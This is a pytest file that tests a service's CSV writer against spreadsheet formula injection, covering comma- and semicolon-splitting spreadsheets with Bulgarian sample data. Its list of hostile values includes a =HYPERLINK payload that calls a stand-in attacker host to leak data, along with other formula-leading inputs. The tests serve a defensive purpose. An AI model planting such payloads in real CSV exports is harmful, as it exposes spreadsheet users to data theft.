"""Issue 15 item 13: no cell of a CSV the service writes opens as a formula, whether the
spreadsheet splits on `,` or (as a Bulgarian one does) on `;`."""

from __future__ import annotations

import csv
import io

import pytest

from service.core.csv_writer import FORMULA_LEADS, csv_text

HOSTILE = [
    'a;=HYPERLINK("http://evil.example/?leak";"Натисни")',
    "a;=SUM(1+2)",
    "-2+3",
    "+359 888 123 456",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "ред\n=1+2",
    'a;"=1+2"',
    "Иван Петров; ЕГН 1152035081",
]


def _cells(document: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def test_every_field_is_quoted_and_the_file_starts_with_a_byte_order_mark():
    document = csv_text(["поле", "число"], [["текст", 5], [None, ["a", "b"]]])
    assert document == '\ufeff"поле","число"\r\n"текст","5"\r\n"","a b"\r\n'


@pytest.mark.parametrize("value", HOSTILE)
def test_a_spreadsheet_splitting_on_commas_reads_the_value_as_text(value):
    rows = _cells(csv_text(["before", "value"], [["x", value]]), ",")
    shown = rows[1][1]
    assert not shown.startswith(FORMULA_LEADS)
    assert shown.lstrip("'").replace(";'", ";").replace("\n'", "\n").replace("\r'", "\r") == value


@pytest.mark.parametrize("value", HOSTILE)
def test_a_spreadsheet_splitting_on_semicolons_finds_no_formula_in_any_cell(value):
    """A `;`-splitting reader that ends a quoted field at its closing quote (as Python's and
    Excel's do) sees every `;` of the line as a separator: no piece may start a formula."""
    for row in _cells(csv_text(["before", "value"], [["x", value]]), ";"):
        for piece in row:
            assert not piece.lstrip('"').startswith(FORMULA_LEADS), (value, piece)


def test_cyrillic_text_without_formulas_is_written_unchanged():
    rows = _cells(csv_text(["име"], [["Детска градина „Слънце“; с. Копринка"]]), ",")
    assert rows == [["име"], ["Детска градина „Слънце“; с. Копринка"]]
